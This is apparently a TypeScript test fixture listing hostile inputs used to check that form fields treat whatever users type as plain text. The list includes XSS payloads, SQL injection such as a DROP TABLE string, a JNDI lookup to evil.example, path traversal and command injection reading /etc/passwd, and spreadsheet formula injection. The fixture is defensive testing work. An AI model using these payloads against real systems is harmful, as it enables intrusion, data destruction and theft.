/** The path that markup asks for which was taken for markup: nobody else does. */
export const hitPath = '/taken-for-markup';

const scripts = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=/taken-for-markup></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</noscript><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '<script type=module>import("/taken-for-markup")</script>',
  '<script type="application/ld+json">{</script>',
  '{"@type":"Product"}</script><script>alert(1)//',
  '"};alert(1);//',
  "';alert(1);//",
  '\\";alert(1);//',
  '`;alert(1);//',
  '${alert(1)}',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<template><script>alert(1)</script></template>',
  '<!--<script>alert(1)</script>-->',
  '<script\u2028>alert(1)</script>',
];

const markup = [
  '<img src=/taken-for-markup onerror=alert(1)>',
  '<img src=x onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<svg><use href="data:image/svg+xml,<svg/>#x">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="/taken-for-markup"></object>',
  '<embed src="/taken-for-markup">',
  '<link rel=stylesheet href=/taken-for-markup>',
  '<style>@import "/taken-for-markup";</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=/taken-for-markup">',
  '<form action="https://evil.example"><button>Pay</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video src=/taken-for-markup onerror=alert(1)>',
  '<audio src onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<a href="javascript:alert(1)">here</a>',
  '<div style="background:url(/taken-for-markup)">',
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '" autofocus onfocus=alert(1) x="',
  '/><img src=/taken-for-markup>',
  '<img/src="/taken-for-markup"/onerror=alert(1)>',
  '<%00img src=/taken-for-markup>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=/taken-for-markup&#62;',
  '<isindex action=javascript:alert(1)>',
  '<portal src=/taken-for-markup>',
];

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'javascript://x%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example/taken-for-markup',
  '[here](javascript:alert(1))',
  '![x](https://evil.example/x.png)',
  '![x](/taken-for-markup)',
  '[x]: javascript:alert(1) "\n[here][x]',
  '<javascript:alert(1)>',
  '[a](data:text/html;base64,PHNjcmlwdD4=)',
  'https://evil.example/"onmouseover="alert(1)',
];

const statements = [
  "' OR '1'='1",
  "'; DROP TABLE item; --",
  '" OR ""="',
  "1' UNION SELECT cost FROM item --",
  "'||(SELECT pg_sleep(5))||'",
  '1; SELECT pg_sleep(5)',
  '%',
  '_%_%',
  '\\',
  "\\' OR 1=1 --",
  '$1',
  '$$; SELECT 1; $$',
  "E'\\x27'",
  '(((((((',
];

const formats = [
  '%s%s%s%n',
  '%x%08x',
  '{0}{1}{{2}}',
  '{{constructor.constructor("alert(1)")()}}',
  '{name} {number}',
  '{{count}} $t(common.save)',
  '<%= 7 * 7 %>',
  '#{7*7}',
  '$' + '{jndi:ldap://evil.example/x}',
  '__proto__',
  'constructor',
  '[object Object]',
  'NaN',
  'undefined',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '; cat /etc/passwd',
  '|id',
];

const letters = [
  '\u202Egnp.exe',
  'ring\u2066\u202Eexe\u2069',
  '\u200Fabc\u200E',
  'a\u200Bb\uFEFFc',
  '𝕊𝕔𝕣𝕚𝕡𝕥',
  '＜script＞alert(1)＜/script＞',
  'ʼ OR 1=1',
  '髙﨑𠮷👩‍👩‍👧‍👦',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢',
  'nul\u0000byte',
  '\u001B[31mred',
  '\uD800lone',
];

const formulas = ['=1+1', '=HYPERLINK("https://evil.example","x")', '+1+cmd|"/C calc"!A0', '-2+3', '@SUM(1+1)'];

/** What strangers type where a word is asked for: none of it is ever more than text. */
export const payloads: readonly string[] = [
  ...scripts,
  ...markup,
  ...addresses,
  ...statements,
  ...formats,
  ...letters,
  ...formulas,
];

/** Far longer than any field. */
export const endlessPayload = '<b>'.repeat(10_000);

/** The same, or those that are given, in as few texts as hold them, of at most so many letters each. */
export function packed(max: number, from = payloads): string[] {
  const texts: string[] = [];
  for (const payload of from) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + 1 + payload.length <= max) texts[texts.length - 1] = `${last} ${payload}`;
    else texts.push(payload);
  }
  return texts;
}

/** Whether a text may stand in a field: no control characters, no halves of letters. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for.
export const isPrintable = (text: string) => text.isWellFormed() && !/[\u0000-\u0008\u000b-\u001f\u007f]/.test(text);
